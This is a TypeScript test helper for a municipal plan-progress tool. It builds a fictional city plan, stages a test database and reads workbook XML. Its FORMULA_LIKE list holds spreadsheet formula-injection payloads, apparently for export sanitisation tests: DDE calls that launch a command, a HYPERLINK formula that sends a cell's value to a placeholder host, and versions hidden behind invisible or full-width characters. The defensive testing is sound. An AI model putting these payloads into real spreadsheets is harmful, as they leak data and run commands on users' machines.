import { inflateRawSync } from "node:zlib";
import { type ProgressTable, progressTable } from "../../src/export/progress-table.js";
import { applyImport } from "../../src/import/apply.js";
import type { ParsedPlan } from "../../src/import/document.js";
import { listZipEntries, zipEntryData } from "../../src/import/zip.js";
import type { Db } from "../../src/store/database.js";
import { run } from "../../src/store/database.js";
import { listPlanGoals } from "../../src/store/goals.js";
import { listPlans, type Plan } from "../../src/store/plans.js";
import { NOW, temporaryDatabase } from "./plan-store.js";

/** A plan of our own invention with departments, each with its number of goals, as a reader hands it on. */
export function parsedPlan(departments: readonly (readonly [name: string, goals: number])[]): ParsedPlan {
  return {
    layout: "headings",
    municipality: "青葉野市",
    fiscalYear: 2026,
    title: "青葉野市 令和8年度 各部経営方針",
    issuedBy: null,
    updatedOn: null,
    overall: [],
    framework: [],
    departments: departments.map(([name, goals], index) => ({
      order: index + 1,
      name,
      aliases: [],
      reading: null,
      line: 1,
      vision: null,
      sections: [
        {
          name: "施策",
          line: 1,
          policies: [{ text: "市民の声を聴きます。", line: 1 }],
          goals: Array.from({ length: goals }, (_none, at) => ({
            text: `${name}の取組その${at + 1}`,
            line: at + 1,
          })),
        },
      ],
      initiatives: [],
    })),
    warnings: [],
    summarised: false,
  };
}

export interface Stage {
  readonly db: Db;
  readonly file: string;
  readonly plan: Plan;
  readonly table: (at?: number) => ProgressTable;
  /** The id of a goal by its place in the plan. */
  readonly goal: (place: number) => number;
}

export function stage(departments: readonly (readonly [name: string, goals: number])[]): Stage {
  const { db, file } = temporaryDatabase();
  applyImport(
    db,
    parsedPlan(departments),
    {
      municipality: "青葉野市",
      fiscalYear: 2026,
      track: [],
      sourceName: "document",
      sourceSha256: "0".repeat(64),
      now: NOW,
      actor: "test",
    },
    true,
  );
  const [plan] = listPlans(db);
  if (plan === undefined) throw new Error("no plan was imported");
  const ids = listPlanGoals(db, plan.id).map(({ id }) => id);
  return {
    db,
    file,
    plan,
    table: (at = NOW) => progressTable(db, plan, at),
    goal: (place) => ids[place] ?? -1,
  };
}

/** Puts a text where the importer would have put it, without the importer's own rules on marks and blanks. */
export function setText(db: Db, goalId: number, text: string): void {
  run(db, "UPDATE statement SET text = ? WHERE id = ?", text, goalId);
}

/** The XML parts of a workbook by name, as they are in the file. */
export function partsOf(bytes: Uint8Array): ReadonlyMap<string, string> {
  const parts = (listZipEntries(bytes) ?? []).map((entry) => {
    const data = zipEntryData(bytes, entry) ?? new Uint8Array();
    const text = entry.method === 0 ? Buffer.from(data) : inflateRawSync(data);
    return [entry.name, text.toString("utf8")] as const;
  });
  return new Map(parts);
}

/** Texts that a spreadsheet may run. */
export const FORMULA_LIKE: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://example.com/?leak="&A1,"詳細")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd","/C calc","x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u3000=1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
];
